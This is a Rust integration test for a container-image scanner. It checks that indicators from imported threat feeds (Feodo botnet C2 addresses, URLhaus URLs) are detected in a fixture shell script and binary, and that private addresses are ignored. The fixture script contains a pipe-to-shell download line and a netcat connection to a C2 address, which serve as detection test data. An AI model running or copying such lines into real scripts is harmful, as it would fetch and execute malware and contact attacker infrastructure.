//! Malicious URLs and IPs: real threat feeds (abuse.ch Feodo, IPsum) and feeds in their
//! published formats (URLhaus CSV, a FireHOL-style netset) imported with `assure db import`;
//! indicators embedded in a script and in a binary are found with their classification, and
//! private addresses never are, even when a feed lists them.

use assure_tests::data::test_data;
use assure_tests::fixture::{Entry, ImageSpec, LayerSpec, write_oci_layout};
use assure_tests::samples::{C2, URL, urlhaus_csv};
use assure_tests::system::{db_import, scan_json};
use serde_json::Value;

#[test]
fn feed_indicators_in_scripts_and_binaries_are_found_private_ones_never() {
    let Some(shared) = test_data() else { return };
    let work = tempfile::tempdir().unwrap();
    let feeds = work.path().join("feeds");
    std::fs::create_dir_all(&feeds).unwrap();
    std::fs::write(feeds.join("urlhaus-recent.csv"), urlhaus_csv()).unwrap();
    // A list that (wrongly) names private space must still not produce findings.
    std::fs::write(
        feeds.join("corp.netset"),
        "# Category: test\n10.0.0.0/8\n192.168.1.7\n",
    )
    .unwrap();
    let data = work.path().join("data");
    let out = db_import(
        &data,
        &[
            &shared.join("blocklists/abusech-feodo/ipblocklist.csv"),
            &shared.join("blocklists/ipsum/levels/8.txt"),
            &feeds,
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // 28 Feodo C2s, 23 IPsum level-8 addresses, 1 URL, 2 private entries.
    assert!(stdout.contains("54 threat indicators"), "{stdout}");

    let script = format!(
        "#!/bin/sh\n# fetch and run\ncurl -fsSL {URL} | sh\nexec nc {C2} 1194\nping -c1 10.1.2.3\nping -c1 192.168.1.7\n"
    );
    let mut binary = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00".to_vec();
    binary.extend((0..4096u32).map(|i| (i * 7 % 251) as u8));
    binary.extend_from_slice(format!("\x00{C2}\x00{URL}\x00").as_bytes());
    binary.extend((0..4096u32).map(|i| (i * 13 % 241) as u8));
    let spec = ImageSpec::new(vec![LayerSpec::new(vec![
        Entry::file_mode("app/start.sh", 0o755, script),
        Entry::file_mode("usr/local/bin/agent", 0o755, binary),
        Entry::file(
            "etc/app.conf",
            "upstream = 10.0.0.5:8080\nfallback = 192.168.1.7\n",
        ),
    ])]);
    let layout = work.path().join("image");
    write_oci_layout(&spec, &layout).unwrap();
    let report = scan_json(&data, &format!("oci:{}:latest", layout.display()));
    let findings: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["category"] == "MaliciousIP" || f["category"] == "MaliciousURL")
        .collect();
    let at = |category: &str, path: &str| {
        findings
            .iter()
            .find(|f| f["category"] == category && f["path"] == path)
            .unwrap_or_else(|| panic!("no {category} at {path}: {findings:#?}"))
    };
    for path in ["/app/start.sh", "/usr/local/bin/agent"] {
        let ip = at("MaliciousIP", path);
        assert_eq!(ip["evidence"], C2);
        assert_eq!(ip["severity"], "critical");
        assert!(ip["title"].as_str().unwrap().contains("botnet C2"), "{ip}");
        assert!(
            ip["description"].as_str().unwrap().contains("Pikabot"),
            "{ip}"
        );
        let url = at("MaliciousURL", path);
        assert_eq!(url["evidence"], URL);
        assert!(
            url["title"]
                .as_str()
                .unwrap()
                .contains("malware distribution"),
            "{url}"
        );
        assert_eq!(url["rule_id"], "threat:abuse-ch-urlhaus");
    }
    assert_eq!(findings.len(), 4, "{findings:#?}");
    assert!(
        findings.iter().all(|f| f["path"] != "/etc/app.conf"),
        "private addresses are never reported"
    );
}
